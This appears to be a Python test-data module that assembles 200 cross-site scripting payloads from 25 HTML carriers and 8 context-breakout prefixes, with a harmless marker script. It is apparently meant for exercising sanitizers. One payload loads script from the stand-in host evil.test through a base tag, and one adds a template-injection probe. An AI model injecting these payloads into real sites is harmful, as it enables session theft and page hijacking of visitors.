"""Texts that run a script wherever one is careless: 25 carriers in 8 surroundings."""

RUN = "window.__xss=1"

CARRIERS = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<body onload={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN[7:]}</script>'>",
    f"<iframe src=javascript:{RUN}>",
    f"<a href=javascript:{RUN} autofocus onfocus={RUN}>x</a>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<textarea autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}>",
    f"<audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>",
    f"<object data=javascript:{RUN}>",
    f"<embed src=javascript:{RUN}>",
    f"<form><button formaction=javascript:{RUN}>",
    f"<math><mtext></mtext><mglyph><style><img src=x onerror={RUN}>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<link rel=stylesheet href=javascript:{RUN}>",
    f"<style>@import 'javascript:{RUN}'</style>",
    f"<p hx-on:load={RUN} hx-get=/ hx-trigger=load>",
    f"<base href=//evil.test/><script src=x></script>{RUN}",
    f"{{{{ ''.__class__ }}}}{{% print(1) %}}<b onclick={RUN}>",
)
SURROUNDINGS = (
    "{}",
    '">{}',
    "'>{}",
    "</textarea>{}",
    "</title>{}",
    "</select>{}",
    "--><b>{}",
    "`${{{{alert(1)}}}}`{}",
)

PAYLOADS = tuple(around.format(carrier) for around in SURROUNDINGS for carrier in CARRIERS)
